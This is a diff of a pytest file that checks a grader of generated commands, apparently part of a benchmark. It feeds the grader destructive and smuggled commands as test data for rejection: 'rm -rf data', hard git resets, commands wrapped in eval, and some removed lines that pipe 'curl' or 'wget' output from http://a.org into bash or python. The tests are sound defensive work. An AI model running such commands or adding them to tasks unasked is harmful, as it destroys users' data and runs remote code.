@@ -50,15 +50,11 @@ net.fit(state, epochs=7)
         ("python train.py --data a/1.10/ --lr 1", "python train.py --data ./a//1.10 --lr 1.0"),
         ("python -m absent.run --steps 3", "python absent/run.py --steps=3"),
         ("python by_hand.py lr=0.10 out=runs/x", "python by_hand.py out=runs/x/ lr=0.1"),
-        ("python composed.py --lr=0.5", "python composed.py --steps=10 --lr=.5"),
         ("bash fetch.sh a b", "./fetch.sh a b"),
         ("make serve PORT=90", "make serve PORT=90"),
         (STEPS, f"bash fetch.sh a b && {TRAIN}"),
         (STEPS, f"F=b\nmkdir -p out && bash fetch.sh a $F; cd kit; {TRAIN.replace('data/', '../data/')}"),
         ("bash run.sh --amp", "source run.sh --amp"),
-        ("curl http://a.org/x.sh | bash", "curl http://a.org/x.sh | bash"),
-        (TRAIN, f"curl http://a.org/x.tgz | tar xz; {TRAIN}"),
-        (TRAIN, f"true || curl http://a.org/x.sh | bash; curl http://a.org/a.txt | grep bash; {TRAIN}"),
         (
             TRAIN,
             f"chmod +x run.sh; chmod 755 run.sh; chmod 0644 train.py; chmod go-rwx kit; chmod u+x,g-w run.sh; {TRAIN}",
@@ -122,15 +118,11 @@ def test_the_same_call_in_other_words(judge: Judge, reference: str, answer: str)
         ("python train.py --data 1.10", "python train.py --data 1.1", "other value"),
         ("python train.py --data none", "python train.py --data null", "other value"),
         ("python kit/evaluate.py", "python kit/evaluate.py --data None", "unasked"),
-        ("python by_hand.py out=none", "python by_hand.py out=null", "other value"),
-        (LOADED.replace("a.pt", "1.10"), LOADED.replace("a.pt", "1.1"), "other value"),
         (TRAIN, TRAIN + " --opt rmsprop", "refused"),
         ("python commands.py slices a b --steps 9", "python commands.py heat a b --steps 9", "wrong entry"),
         ("python commands.py slices a b --steps 9", "python commands.py slices a --steps 9", "other value"),
         ("python by_hand.py lr=0.1 out=runs/x", "python by_hand.py lr=0.1", "missing"),
         ("python by_hand.py lr=0.1", "python by_hand.py lr=0.1 out=runs/x", "unasked"),
-        ("python composed.py --lr=0.5", "python composed.py --steps=11 --lr=.5", "unasked"),
-        ("python composed.py --lr=0.5 --steps=3", "python composed.py --lr=.5", "missing"),
         ("bash fetch.sh a b", "bash fetch.sh a c", "other value"),
         ("make serve PORT=90", "make serve PORT=91", "other value"),
         (STEPS, TRAIN, "missing"),
@@ -141,24 +133,12 @@ def test_the_same_call_in_other_words(judge: Judge, reference: str, answer: str)
         (TRAIN, f"{TRAIN}; bash -c 'rm -rf data'", "unasked"),
         (TRAIN, f"rm -rf data\n{TRAIN}", "unasked"),
         (TRAIN, f"git checkout old\n{TRAIN}", "unasked"),
-        (TRAIN, f"curl http://a.org/x.sh | bash; {TRAIN}", "unasked"),
-        (TRAIN, f"curl -s http://a.org/x.sh | sudo bash -s -- -y\n{TRAIN}", "unasked"),
-        (TRAIN, f"wget -qO- http://a.org/x.py | tee x.py | python -; {TRAIN}", "unasked"),
-        ("curl http://a.org/x.sh | bash", "curl http://a.org/y.sh | bash", "other value"),
         (TRAIN, f"git -C . reset --hard HEAD~5; {TRAIN}", "unasked"),
-        (TRAIN, f"git apply x.patch; {TRAIN}", "unasked"),
         (TRAIN, f"conda env remove -n x; python -m pip uninstall -y torch; {TRAIN}", "unasked"),
-        (TRAIN, f"mv data old; {TRAIN}", "unasked"),
         (TRAIN, f"python -c \"import os; os.system('{TRAIN}; rm -rf data')\"", "unasked"),
         (CODE, f"import os\nos.system('cd data && rm -r cora')\n{CODE}", "unasked"),
         (CODE, f"import subprocess\nsubprocess.run(['rm', '-rf', 'data'])\n{CODE}", "unasked"),
         (TRAIN, f"sed -Ei 's/a/b/' kit/net.py; {TRAIN}", "unasked"),
-        (TRAIN, f"> kit/net.py; {TRAIN}", "unasked"),
-        (TRAIN, f"cp kit/evaluate.py kit/train.py\n{TRAIN}", "unasked"),
-        (TRAIN, f"{TRAIN} > kit/net.py", "unasked"),
-        (TRAIN, f"echo 1 >> kit/net.py; {TRAIN}", "unasked"),
-        (TRAIN, f"{{ echo 1; }} > kit/net.py; {TRAIN}", "unasked"),
-        (TRAIN, f"for i in 1 2; do echo $i; done > kit/net.py; {TRAIN}", "unasked"),
         (TRAIN, f'eval "{TRAIN} --amp"', "unasked"),
         (TRAIN, f'python -c "import subprocess; subprocess.run({[*TRAIN.split(), "--amp"]})"', "unasked"),
         (TRAIN, f"python - <<END\nimport os\nos.system('{TRAIN} --amp')\nEND", "unasked"),
@@ -186,15 +166,6 @@ def test_the_same_call_in_other_words(judge: Judge, reference: str, answer: str)
 def test_another_call(judge: Judge, reference: str, answer: str, reason: str) -> None:
     verdict = judge(reference, answer, "Save it as out/net.pt.")
     assert verdict.reason_class == reason, verdict
-
-
-def test_what_was_cut_before_anything_was_seen_is_looked_at_again(kit: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    looks, code = _cut_first(monkeypatch, 2), f"{CODE}# seen by nobody yet"
-    assert not observation.observe(code, kit).calls, "cut twice: nothing is seen"
-    assert len(looks) == 2
-    assert observation.observe(code, kit).calls, "and nothing is kept: the next one sees the calls"
-    observation.observe(code, kit)
-    assert len(looks) == 3, "what was seen is kept"
 
 
 def test_an_answer_of_which_nothing_is_seen_is_told_apart_from_one_that_calls_nothing(
@@ -248,27 +219,6 @@ def test_a_call_that_never_ends_is_left_wherever_its_time_is_over(tmp_path: Path
         assert [one.name.rpartition(".")[2] for one in found.calls] == ["play", "tell"], found.message
 
 
-def test_a_loop_of_an_answer_that_never_ends_is_left(kit: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """Each of its calls is short; what stands before it is seen."""
-    monkeypatch.setattr(run, "CPU_SECONDS", 1.0)
-    code = "from kit import Net\nnet = Net(12)\nplayed = []\nwhile len(played) < 3:\n    print(len(played), str(3))\n"
-    found = observation.observe(code, kit)
-    assert "kit.net.Net" in [one.name for one in found.calls], found.message
-
-
-def test_a_required_library_may_share_the_first_name_of_a_package(judge: Judge, tmp_path: Path) -> None:
-    for path, text in (
-        ("pyproject.toml", '[project]\nname = "tone.audio"\ndependencies = ["tone.core>=5", "tone-files"]\n'),
-        ("src/tone/audio/__init__.py", "from tone.core import Segment\nfrom tone.files import read\n\ndef load(path, rate=8):\n    return Segment(path)\n"),
-    ):  # fmt: skip
-        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
-        (tmp_path / path).write_text(text)
-    wanted = "from tone.audio import load\nload('a.wav', rate=16)\n"
-    assert judge(wanted, wanted, root=tmp_path).passed
-    assert not judge(wanted, wanted.replace("16", "24"), root=tmp_path).passed
-    assert judge(wanted, wanted.replace("tone.audio", "tone.other"), root=tmp_path).reason_class == "refused"
-
-
 def test_an_installed_function_is_read_by_its_signature_where_its_libraries_are_missing(
     judge: Judge, tmp_path: Path
 ) -> None:
@@ -297,14 +247,6 @@ def test_what_the_request_names_stands_in_the_code(judge: Judge, changed: tuple[
     code = 'import os\nfrom kit import Net\nNet(12).fit([1], epochs=7)\nos.makedirs("made_files")\nopen("made_files/net.txt", "w")\n'
     row = {"instruction": "save it to made_files/net.txt", "arguments": {"epochs": "7"}}
     assert judge(code, code.replace(*changed), **row).passed is passes
-
-
-@pytest.mark.parametrize(
-    ("variable", "passes"), [("USE_ACCEL=1", True), ("USE_CUDA=1", True), ("USE_CUDA=0", False), ("OTHER=1", False)]
-)
-def test_a_variable_that_the_row_accepts_counts(judge: Judge, variable: str, passes: bool) -> None:
-    row = {"arguments": {"accelerator": "USE_ACCEL=1"}, "accept": {"accelerator": ("USE_CUDA=1",)}}
-    assert judge("USE_ACCEL=1 bash fetch.sh a b", f"{variable} bash fetch.sh a b", **row).passed is passes
 
 
 def test_what_the_row_forbids_is_unasked_where_calls_say_too_little(judge: Judge) -> None:
